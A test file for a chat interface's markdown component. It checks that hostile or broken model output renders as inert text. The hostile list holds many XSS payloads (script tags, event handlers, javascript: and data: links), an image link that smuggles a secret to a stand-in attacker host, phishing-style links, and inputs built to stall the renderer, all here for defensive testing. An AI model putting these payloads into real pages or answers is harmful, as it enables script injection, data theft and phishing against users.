// Real: the markdown component as the page renders it, to a string. Scripted: what hostile or broken models write.
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { canRenderMarkdown } from './limits.ts'
import { Markdown } from './markdown.tsx'
import { safeUrl } from './safe-url.ts'

const render = (text: string, streaming = false) => renderToStaticMarkup(<Markdown text={text} streaming={streaming} />)

/** Promise S4: nothing in an answer runs, loads or leads astray. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="https://evil.test/p.png">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.test"><input name=q><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<style>@import url(https://evil.test/x.css)</style>',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<object data="https://evil.test/x"></object>',
  '<embed src="https://evil.test/x">',
  '<details open ontoggle=alert(1)>x</details>',
  '<video poster="https://evil.test/p.png"><source src="https://evil.test/v"></video>',
  '<audio src="https://evil.test/a" autoplay></audio>',
  '<img srcset="https://evil.test/a 1x, https://evil.test/b 2x">',
  '<picture><source srcset="https://evil.test/a"><img></picture>',
  '<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="background:url(https://evil.test/b)">x</div>',
  '<p id="__NEXT_DATA__">{}</p>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.test/path)',
  '[x](/api/settings)',
  '[x](blob:https://evil.test/1)',
  '[ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.test/p.png?d=SECRET)',
  '![x][r]\n\n[r]: https://evil.test/p.png',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](data:image/png;base64,AAAA)',
  '![x](blob:null/1)',
  '[![x](https://evil.test/p.png)](https://evil.test)',
  '# <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '# __NEXT_DATA__',
  'a[^x]\n\n[^x]: <script>alert(1)</script>'
]

/** Text is escaped, so a raw `<` begins a real tag. */
const forbidden = new RegExp(
  [
    '<(?:script|img|svg|iframe|form|meta|base|style|link|object|embed|video|audio|source|picture|math|body|input|noscript|details)\\b',
    '<[a-z][^>]*\\s(?:on\\w+|id|src|srcset|poster)=',
    'href="(?!https?:|mailto:)'
  ].join('|'),
  'i'
)

describe('hostile text', () => {
  test.each(hostile)('%s makes no element that runs or loads', payload => {
    expect(withoutOwnIcons(render(payload))).not.toMatch(forbidden)
  })

  test('nor does any prefix of it while it streams', () => {
    for (const payload of hostile) {
      for (let length = 1; length <= payload.length; length++) {
        expect(withoutOwnIcons(render(payload.slice(0, length), true)), payload.slice(0, length)).not.toMatch(forbidden)
      }
    }
  })

  test('a link shows where it really leads', () => {
    expect(render('[bank.com](https://bank.com@evil.test/x)')).toContain('(evil.test)')
    expect(render('[bank.com](https://bank.com@evil.test/x)')).not.toContain('bank.com@')
    expect(render('[pay](https://аpple.com/)')).toContain('xn--')
    expect(render('https://example.com/a')).not.toContain('(example.com)')
    expect(safeUrl(`https://${'a.'.repeat(60)}evil.test/`)?.host).toMatch(/^….*\.evil\.test$/)
  })
})

/** Promise S4: an answer made to break the page is shown as plain text. */
const poison: [string, string][] = [
  ['quotes', '>'.repeat(5_000)],
  ['spaced quotes', '> '.repeat(5_000)],
  ['elements', '<div>'.repeat(5_000)],
  ['deep list', Array.from({ length: 500 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
  ['bullets in one line', '- '.repeat(5_000)],
  ['footnotes', '[^1]'.repeat(5_000)],
  ['table', `|a|b|\n|-|-|\n${'|x|y|\n'.repeat(50_000)}`],
  ['long line', 'x'.repeat(1_000_000)],
  ['fences', '```\n'.repeat(100_000)],
  ['brackets', '['.repeat(20_000)],
  ['links', '[a]('.repeat(5_000)],
  ['images', '![a]('.repeat(5_000)],
  ['emphasis', '*a '.repeat(20_000)],
  ['strong', '**a '.repeat(10_000)],
  ['underscores', '_a '.repeat(20_000)],
  ['strikes', '~~a '.repeat(10_000)],
  ['backticks', '`'.repeat(20_000)],
  ['autolinks', '<a@b.'.repeat(4_000)],
  ['entities', '&#x41;'.repeat(5_000)],
  ['backslashes', '\\*'.repeat(20_000)],
  ['headings', '# a\n'.repeat(10_000)],
  ['setext', 'a\n=\n'.repeat(10_000)],
  ['rules', '---\n'.repeat(10_000)],
  ['items', '- a\n'.repeat(60_000)],
  ['paragraphs', 'a\n\n'.repeat(80_000)],
  ['inline code', '`a` '.repeat(8_000)],
  ['urls', 'https://a.b/c '.repeat(5_000)],
  ['nested list and quote', Array.from({ length: 100 }, (_, depth) => `${'> - '.repeat(depth)}x`).join('\n')]
]

describe('poison', () => {
  /** The quickest of three: a busy machine only ever adds to it. */
  const renderMs = (text: string) =>
    Math.min(
      ...[0, 1, 2].map(() => {
        const start = performance.now()
        render(text)
        return performance.now() - start
      })
    )

  test.each(poison)('%s takes no longer than a long answer, and loses nothing of the page', (_name, text) => {
    const ordinaryMs = renderMs('A paragraph with **bold**, *emphasis*, `code` and [a link](https://example.com).\n\n'.repeat(2000))
    expect(renderMs(text) / ordinaryMs).toBeLessThan(4)
    expect(render(text)).toMatch(/^<div class="prose">/)
  })

  test('ordinary answers are not mistaken for it', () => {
    const answer = `# Title\n\n${'A paragraph with **bold**, *emphasis*, `code` and [a link](https://example.com).\n\n'.repeat(400)}\n\n- a\n  - b\n    - c\n\n> quote\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n`
    expect(canRenderMarkdown(answer)).toBe(true)
    expect(canRenderMarkdown('const deep = [[[[[[[1]]]]]]]')).toBe(true)
  })
})

describe('markdown', () => {
  test('code keeps its text and language', () => {
    const html = render('```ts\nconst a = "<b>"\n```')
    expect(html).toContain('const a = &quot;&lt;b&gt;&quot;')
    expect(html).toContain('>ts<')
  })

  test('tables, tasks, headings and emphasis', () => {
    const html = render('# One\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n*em* **strong**')
    expect(html).toContain('<h3 class="prose-h1">One</h3>')
    expect(html).toContain('text-align:right')
    expect(html).toContain('☑')
    expect(html).toContain('<em>em</em>')
  })

  test('an unfinished delimiter is held back while streaming only', () => {
    expect(render('so **imp', true)).not.toContain('**')
    expect(render('so **imp')).toContain('**imp')
  })
})

/** The copy button's icon is ours. */
function withoutOwnIcons(html: string): string {
  return html.replace(/<svg[^>]*class="lucide[^"]*".*?<\/svg>/g, '')
}
